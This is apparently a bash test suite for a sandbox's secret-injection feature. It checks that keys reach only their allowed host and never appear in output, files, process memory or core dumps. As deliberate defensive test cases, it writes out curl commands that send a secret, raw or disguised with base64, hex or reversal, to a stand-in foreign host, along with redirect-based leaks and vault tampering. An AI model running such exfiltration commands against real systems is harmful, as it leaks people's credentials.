#!/usr/bin/env bash
# Secrets that a guest may use and never hold, through the command line at levels wasm,
# process and container.  The observer is the server that should, or should not, have received the value;
# and whoever may look into the host's processes and files.
source "$(dirname "$0")/egress_lib.sh"

# secretive INJECTION [MORE]: both policies, to two hosts.
secretive() {
  secrets="injection: $1${2:+, $2}" both allowlist api.example.com other.example.org
}

# use LEVEL URL [OPTION...]: with --secret key.
use() {
  local level=$1 url=$2
  shift 2
  net_reset
  if by_module "$level"; then
    run run --policy wasm.yaml --secret key "$GUEST" "$@" -- "$url"
  else
    run run "${native[@]}" --secret key -- curl -sSfgm 15 "$@" "$url"
  fi
}
scheme() { by_module "$1" && echo https || echo http; } # the door upgrades a native tool's

S02_a_secret_is_used_and_never_held() {
  local level
  vault
  secretive host-boundary
  for level in "${levels[@]}"; do
    use "$level" "$(scheme "$level")://api.example.com/echo" -H 'X-Key: {{secret:key}}'
    expect_status 0
    is "received at $level" "$(received api.example.com)" 1
    is "over TLS" "$(count_events event=request tls=true)" 1
    expect_out_lacks "$VALUE"
    expect_err_lacks "$VALUE"
  done
  # Nor does it get in without being asked for, or under another name.
  for level in "${levels[@]}"; do
    ask "$level" "$(scheme "$level")://api.example.com/" -H 'X-Key: {{secret:key}}'
    [[ $status != 0 ]] || fail "used without --secret at $level"
    is "received" "$(seen_anywhere)" 0
    options=(--secret kye)
    ask "$level" "$(scheme "$level")://api.example.com/"
    options=()
    [[ $status != 0 ]] || fail "an unknown secret was given at $level"
    is "received" "$(seen_anywhere)" 0
  done
}

S06_only_for_whom_it_is_granted() {
  local level
  vault policy:another
  secretive host-boundary
  for level in "${levels[@]}"; do
    use "$level" "$(scheme "$level")://api.example.com/" -H 'X-Key: {{secret:key}}'
    expect_status 126
    is "connections" "$(count_connections)" 0
  done
  asks_modules || return 0
  vault tool:fetch.wasm
  use wasm "$(scheme wasm)://api.example.com/" -H 'X-Key: {{secret:key}}'
  expect_status 0
  is "received" "$(received)" 1
  use native http://api.example.com/ -H 'X-Key: {{secret:key}}'
  expect_status 126
}

N14_a_secret_goes_to_its_host_and_no_other() {
  local level code
  vault
  secretive host-boundary
  for level in "${levels[@]}"; do
    use "$level" "$(scheme "$level")://other.example.org/" -H 'X-Key: {{secret:key}}'
    [[ $status != 0 ]] || fail "sent to another host"
    is "sent elsewhere" "$(seen_anywhere)" 0
    is "requests elsewhere" "$(count_requests other.example.org)" 0
  done
  for code in 301 302 307 308; do
    use native "http://api.example.com/redirect?code=$code&to=http://other.example.org/x" \
      -L -H 'X-Key: {{secret:key}}'
    is "sent elsewhere by a client's own redirect" "$(received other.example.org)" 0
    asks_modules || continue
    use wasm "https://api.example.com/redirect?code=$code&to=https://other.example.org/x" \
      -H 'X-Key: {{secret:key}}' -H 'Authorization: Basic {{secret:key}}'
    is "received by the first" "$(received api.example.com)" 1
    is "received by the second" "$(received other.example.org)" 0
    is "in any form" "$(count_events event=request host=other.example.org \
      'header:authorization=*')" 0
    # And back again: the way led through a stranger.
    use wasm "https://api.example.com/redirect?code=$code&to=https://other.example.org/redirect?to=https://api.example.com/back" \
      -H 'X-Key: {{secret:key}}'
    is "seen by the stranger" "$(count_events event=request host=other.example.org \
      'header:x-key=*')" 0
  done
  # https that falls to http would show it to all.
  use wasm "$(scheme wasm)://api.example.com/redirect?to=http://api.example.com/x" \
    -H 'X-Key: {{secret:key}}'
  is "in the clear" "$(count_events event=request tls=false 'header:x-key=*')" 0
}

S07_a_server_that_gives_it_back() {
  local level
  vault
  secretive host-boundary
  for level in "${levels[@]}"; do
    use "$level" "$(scheme "$level")://api.example.com/reflect?header=X-Key" \
      -H 'X-Key: {{secret:key}}' -i X-Reflected
    is "received at $level" "$(received)" 1
    expect_out_lacks "$VALUE"
    expect_out_has "[redacted:key]"
  done
  # What came and went is nowhere in the memory of who took it out, but where it is locked.
  [[ $native_level == process && ! ${NACRE_SANITIZED:-} ]] || return 0
  hold --secret key -- sh -c 'curl -sSgm 15 -H "X-Key: {{secret:key}}" \
    "http://api.example.com/reflect?header=X-Key" && echo up && read line'
  is "who still has it" "$(python3 "$here/dumped.py" "$VALUE" $(of_the_host "$pid"))" ""
  let_go
}

S03_a_guest_that_holds_it_can_not_send_or_say_it() {
  local level form
  vault
  secretive environment 'leak_detection: {enabled: true}'
  # The control: it has it.
  run run "${native[@]}" --secret key=KEY -- sh -c 'printf %s "$KEY" | wc -c'
  expect_status 0
  expect_out "${#VALUE}"
  for form in 'printf %s "$KEY"' 'printf %s "$KEY" | base64' 'printf %s "$KEY" | xxd -p' \
    'printf %s "$KEY" | rev' 'printf x%s "$KEY" | base64' 'printf xy%s "$KEY" | base64' \
    'for i in $(seq ${#KEY}); do printf %s "$KEY" | cut -c$i | tr -d "\n"; done' \
    'printf %s "$KEY" | sed "s,/,%2F,;s/+/%2B/;s/=/%3D/"' 'printf %s "$KEY" >&2'; do
    run run "${native[@]}" --secret key=KEY -- sh -c "$form; echo; echo end"
    checks=$((checks + 1))
    cat "$scratch/err" >>"$scratch/out"
    expect_out_has "[redacted:key]"
    expect_out_lacks "$VALUE"
    expect_out_lacks "$(printf %s "$VALUE" | base64)"
    expect_out_lacks "$(printf %s "$VALUE" | rev)"
  done
  # Its own host is no exception: a stand-in is what is sent there.
  for form in 'http://other.example.org/?k=$KEY' 'http://api.example.com/?k=$KEY' \
    'http://other.example.org/$(printf %s "$KEY" | base64 -w0 | tr +/ -_)' \
    '-H "X-Key: $KEY" http://other.example.org/' '-d "x=$KEY" http://other.example.org/' \
    '-d "$(printf %s "$KEY" | xxd -p)" http://other.example.org/'; do
    net_reset
    run run "${native[@]}" --secret key=KEY -- sh -c "curl -sSfgm 10 $form"
    [[ $status != 0 ]] || fail "sent: $form"
    is "requests for $form" "$(count_requests)" 0
  done
  use wasm "$(scheme wasm)://other.example.org/?k=$VALUE"
  [[ $status != 0 ]] || fail "sent from level wasm"
  is "requests" "$(count_requests)" 0
  net_reset
  run run "${native[@]}" --token key=KEY -- \
    sh -c 'curl -sSfm 10 -H "X-Key: $KEY" http://api.example.com/'
  expect_status 0
  is "received by its stand-in" "$(received)" 1
  net_reset
  run run "${native[@]}" --secret key=KEY -- curl -sSf -d hello http://other.example.org/
  expect_status 0
  is "an innocent request" "$(count_events event=request body=hello)" 1
  run audit show --json
  expect_out_lacks "$VALUE"
}

S10_a_token_dies_at_its_time() {
  vault
  secretive host-boundary
  net_reset
  warm --token key=KEY
  run run "${native[@]}" --token key=KEY --token-ttl-ms 1500 -- sh -c '
    echo "$KEY"
    curl -sSfm 10 -H "X-Key: $KEY" http://api.example.com/first >/dev/null || echo failed
    sleep 2
    curl -sSfm 10 -H "X-Key: $KEY" http://api.example.com/second >/dev/null || echo refused'
  expect_out_has nct_
  expect_out_lacks "$VALUE"
  expect_out_lacks failed
  expect_out_has refused
  is "received in time" "$(count_events event=request path=/first "header:x-key=$VALUE")" 1
  is "requests after it" "$(count_events event=request path=/second)" 0
  # The stand-in of one run is nothing to another, nor at another host.
  token=$(grep -o 'nct_[A-Za-z0-9_-]*' "$scratch/out")
  net_reset
  run run "${native[@]}" --token key=KEY -- \
    curl -sSfm 10 -H "X-Key: $token" http://api.example.com/
  is "received by an old stand-in" "$(seen_anywhere)" 0
  run run "${native[@]}" --token key=KEY -- \
    sh -c 'curl -sSfm 10 -H "X-Key: $KEY" http://other.example.org/'
  is "received by another host" "$(seen_anywhere)" 0
}

# show TOKEN LEVEL [OPTION...]: one that a caller gave to the guest by itself; no --secret.
show() {
  local header="X-Key: $1" level=$2
  shift 2
  net_reset
  if by_module "$level"; then
    run run --policy wasm.yaml "$@" "$GUEST" -H "$header" -- https://api.example.com/
  else
    run run "${native[@]}" "$@" -- \
      curl -sSfm 10 -H "$header" http://api.example.com/
  fi
}

S11_a_token_of_a_session_is_good_in_it_until_it_is_revoked() {
  local level
  secretive host-boundary
  for level in "${levels[@]}"; do
    vault policy:nobody # a token is the leave to use it
    run secret token key --scope session:s
    expect_status 0
    token=$(cat "$scratch/out")
    show "$token" "$level" --session s
    expect_status 0
    is "received in its session" "$(received)" 1
    show "$token" "$level" --session other
    is "received in another" "$(seen_anywhere)" 0
    show "$token" "$level"
    is "received in none" "$(seen_anywhere)" 0
    cp "$HOME/.local/state/nacre/tokens" before
    run secret revoke session:s
    expect_out "1 token revoked"
    show "$token" "$level" --session s
    is "received after its revocation" "$(seen_anywhere)" 0
    cp before "$HOME/.local/state/nacre/tokens"
    show "$token" "$level" --session s
    is "received after an old file was put back" "$(seen_anywhere)" 0
  done
}

S11_a_token_that_is_revoked_ends_for_a_run_under_way() {
  secretive host-boundary
  vault policy:nobody
  run secret token key --scope session:s
  token=$(cat "$scratch/out")
  net_reset
  start run "${native[@]}" --session s -- sh -c '
    curl -sSfm 10 -H "X-Key: $0" http://api.example.com/first
    echo up
    while curl -sSm 10 -H "X-Key: $0" http://api.example.com/more; do sleep 0.2; done |
      grep -m 1 "was revoked"' "$token"
  until_true 15 grep -q up "$scratch/out" || fail "it did not start"
  is "received before" "$(count_events event=request path=/first "header:x-key=$VALUE")" 1
  "$NACRE" secret revoke session:s >"$scratch/revoked"
  is "what is said" "$(<"$scratch/revoked")" "1 token revoked"
  until_true 15 grep -q "was revoked" "$scratch/out" || fail "it was not refused"
  finish
  expect_status 0
}

# hold COMMAND...: starts a native guest whose last word is to say "up" and then to read a
# line; let_go gives it one.  What is looked at meanwhile takes the time it takes.
hold() {
  rm -f held
  mkfifo held
  exec 9<>held
  input=held start run "${native[@]}" "$@"
  until_true 15 grep -q up "$scratch/out" || fail "it did not start"
}
let_go() {
  echo >&9
  exec 9>&-
  finish
  expect_status 0
}

# of_the_host PID: it and those below it that are outside of the sandbox.
of_the_host() {
  local found
  for found in "$1" $(below "$1"); do
    [[ $(readlink "/proc/$found/ns/net") != "$(readlink /proc/self/ns/net)" ]] || echo "$found"
  done
}

# leaves_no_core PID: of nacre and its door, whatever ends them.
leaves_no_core() {
  local found
  for found in $(of_the_host "$1"); do
    is "what process $found would dump" "$(awk '/^Max core file size/ {print $5 $6}' \
      "/proc/$found/limits")" 00
  done
  # As far as one may look: as root at all of it.
  is "memory that a dump would hold" "$(python3 "$here/dumped.py" "$VALUE" \
    $(of_the_host "$1"))" ""
}

some_request() { (($(count_requests) > 0)); }

S01_it_is_nowhere_on_the_host_while_a_guest_runs() {
  local injection timeout_ms=60000
  asks_modules || return 0 # container.sh asks the engine too
  vault
  for injection in host-boundary environment file-mount; do
    secretive "$injection"
    hold --secret key=KEY -- sh -c 'echo up; read line'
    last=("$injection: whose words or environment hold the value")
    case $injection in
      environment) # the guest's own processes, and no other
        for found in $(who_shows_it); do
          [[ $(readlink "$found/ns/net") != "$(readlink /proc/self/ns/net)" ]] ||
            fail "$found: $(tr '\0' ' ' <"$found/cmdline")"
        done ;;
      *) is "processes that show it with $injection" "$(who_shows_it | wc -l)" 0 ;;
    esac
    leaves_no_core "$pid"
    if [[ $EUID == 0 && $injection == environment ]]; then
      is "the control: the guest has it" "$(python3 "$here/dumped.py" "$VALUE" \
        $(below "$pid") | grep -c ' sh$')" 1
    fi
    # The door lets no neighbour look into its memory.  (nacre's own process is no better
    # kept than the key file, which the same user can read.)
    for found in $pid $(below "$pid"); do
      [[ $EUID != 0 && $(cat "/proc/$found/comm" 2>/dev/null) == nacre-door ]] || continue
      last=("$injection: process $found, $(cat "/proc/$found/comm")")
      [[ ! -O /proc/$found/mem ]] || fail "its memory can be read"
    done
    let_go
    is "files that hold it after $injection" \
      "$(grep -rlsaF -- "$VALUE" "$scratch" "$HOME" | grep -cv "^$NACRE_NET_LOG" || true)" 0
  done
  # Nor while a module has it: its variables are no process's.
  for injection in host-boundary environment file-mount; do
    secretive "$injection"
    net_reset
    start run --policy wasm.yaml --secret key=KEY "$GUEST" \
      'https://other.example.org/slow?ms=1500'
    until_true 9 some_request || fail "it did not start"
    is "processes that show it at wasm with $injection" "$(who_shows_it | wc -l)" 0
    finish
    expect_status 0
    is "files that hold it after $injection at wasm" \
      "$(grep -rlsaF -- "$VALUE" "$scratch" "$HOME" | grep -cv "^$NACRE_NET_LOG" || true)" 0
  done
  # A file is there for the guest that is to have it, and gone with it.
  secretive file-mount
  run run --policy wasm.yaml --secret key "$GUESTS/cat.wasm" /run/secrets/key
  expect_status 0
  expect_out "[redacted:key]" # it was there to be read
  run run "${native[@]}" --secret key -- sh -c 'wc -c </run/secrets/key'
  expect_status 0
  expect_out "${#VALUE}"
}

S12_a_vault_that_was_changed_is_refused() {
  local file
  vault
  secretive host-boundary
  file=$(find "$HOME/.local/state/nacre" -maxdepth 1 -name '*vault*' -type f | head -n 1)
  [[ $file ]] || fail "no vault was found"
  cp "$file" kept
  printf 'x' | dd of="$file" bs=1 seek=$(($(stat -c %s "$file") / 2)) conv=notrunc status=none
  use wasm "$(scheme wasm)://api.example.com/" -H 'X-Key: {{secret:key}}'
  [[ $status != 0 ]] || fail "a changed vault was used"
  is "connections" "$(count_connections)" 0
  cp kept "$file"
  printf 'another' >value
  input=value run secret set key --host api.example.com --grant policy:egress
  expect_status 0
  cp kept "$file" # rolled back
  use wasm "$(scheme wasm)://api.example.com/" -H 'X-Key: {{secret:key}}'
  [[ $status != 0 ]] || fail "a vault of yesterday was used"
  is "connections" "$(count_connections)" 0
}

N38_what_a_tunnel_hides_is_not_let_through() {
  vault
  secretive host-boundary 'leak_detection: {enabled: true}'
  # Opaque: refused, with the way to go in words.
  net_reset
  run run "${native[@]}" --secret key -- curl -sSm 10 https://api.example.com/
  [[ $status != 0 ]] || fail "a tunnel was opened"
  is "connections" "$(count_connections)" 0
  # Looked into, because the caller says so by name.
  net_reset
  run run "${native[@]}" --secret key --intercept api.example.com -- \
    curl -sSfm 10 -H 'X-Key: {{secret:key}}' https://api.example.com/echo
  expect_status 0
  is "received" "$(received)" 1
  expect_out_lacks "$VALUE"
  # The real server is verified all the same.
  secrets='injection: host-boundary' both allowlist untrusted.example.com
  net_reset
  run run "${native[@]}" --intercept untrusted.example.com -- \
    curl -sSfm 10 https://untrusted.example.com/
  [[ $status != 0 ]] || fail "an untrusted server was vouched for"
  is "requests" "$(count_requests)" 0
}

cases
